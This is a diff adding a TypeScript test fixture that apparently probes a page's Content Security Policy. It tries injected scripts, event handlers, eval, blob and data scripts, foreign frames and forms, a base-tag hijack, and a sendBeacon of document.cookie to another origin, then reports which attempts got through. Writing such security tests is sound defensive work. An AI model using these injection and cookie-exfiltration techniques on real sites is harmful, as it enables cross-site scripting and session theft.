@@ -1,0 +1,90 @@
+/**
+ * What injected markup or a taken-over script would try, as code that runs in the page: each tells whether it came through.
+ * `other` is an origin that is not the page's.
+ */
+export const hostileAttempts = (other: string): Record<string, string> => ({
+  'a script element with code': `(() => {
+    const script = document.createElement('script');
+    script.textContent = 'globalThis.came = true';
+    document.head.append(script);
+    return hasCome();
+  })()`,
+  'an event handler in markup': `(() => {
+    document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="globalThis.came = true">');
+    return hasCome();
+  })()`,
+  'a link of code': `(() => {
+    const link = document.createElement('a');
+    link.href = 'javascript:globalThis.came = true';
+    document.body.append(link);
+    link.click();
+    return hasCome();
+  })()`,
+  'evaluated code': `later(() => eval('globalThis.came = true'))`,
+  'a function made of text': `later(() => new Function('globalThis.came = true')())`,
+  'a timer with text': `later(() => setTimeout('globalThis.came = true', 0))`,
+  'a script of another origin': `loads('script', { src: '${other}/chat/widget.js' })`,
+  'a script from a data address': `loads('script', { src: 'data:text/javascript,globalThis.came=true' })`,
+  'a script from a blob': `loads('script', { src: URL.createObjectURL(new Blob(['globalThis.came = true'])) })`,
+  'a worker from a blob': `new Promise((done) => {
+    try {
+      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
+      worker.onmessage = () => done(true);
+      worker.onerror = () => done(false);
+    } catch { done(false); }
+  })`,
+  "the page's own script without a hash": `loads('script', { src: document.querySelector('script[src]').src })`,
+  "the page's own script with another hash": `loads('script', {
+    src: document.querySelector('script[src]').src,
+    crossOrigin: 'anonymous',
+    integrity: 'sha384-${'A'.repeat(64)}',
+  })`,
+  'a style sheet of another origin': `loads('link', { rel: 'stylesheet', href: '${other}/mailbox.css' })`,
+  'a style element in markup': `(() => {
+    document.body.insertAdjacentHTML('beforeend', '<style>body { outline: 3px solid rgb(1, 2, 3) }</style>');
+    return getComputedStyle(document.body).outlineColor === 'rgb(1, 2, 3)';
+  })()`,
+  'a call to another origin': `fetch('${other}/messages', { mode: 'no-cors' }).then(() => true, () => false)`,
+  'a beacon to another origin': `(() => {
+    navigator.sendBeacon('${other}/messages', document.cookie);
+    return false;
+  })()`,
+  'another base address': `(() => {
+    const base = document.createElement('base');
+    base.href = '${other}/';
+    document.head.prepend(base);
+    return document.baseURI.startsWith('${other}');
+  })()`,
+  'a frame of another origin': `(() => {
+    const frame = document.createElement('iframe');
+    frame.src = '${other}/';
+    document.body.append(frame);
+    return new Promise((done) => setTimeout(() => {
+      try { done(frame.contentDocument !== null && frame.contentDocument.body.childElementCount > 0); } catch { done(false); }
+    }, 500));
+  })()`,
+  'a form to another origin': `(() => {
+    const form = document.createElement('form');
+    form.action = '${other}/messages';
+    form.method = 'post';
+    document.body.append(form);
+    form.submit();
+    return new Promise((done) => setTimeout(() => done(location.origin === '${other}'), 500));
+  })()`,
+});
+
+/** Helpers of the attempts; runs in the page before them. */
+export const attemptHelpers = `Object.assign(globalThis, {
+  came: false,
+  hasCome: () => new Promise((done) => setTimeout(() => done(globalThis.came === true), 300)),
+  later: (run) => new Promise((done) => setTimeout(() => {
+    try { run(); } catch {}
+    setTimeout(() => done(globalThis.came === true), 300);
+  })),
+  loads: (name, attributes) => new Promise((done) => {
+    const element = Object.assign(document.createElement(name), attributes);
+    element.onload = () => done(true);
+    element.onerror = () => done(false);
+    document.head.append(element);
+  }),
+})`;
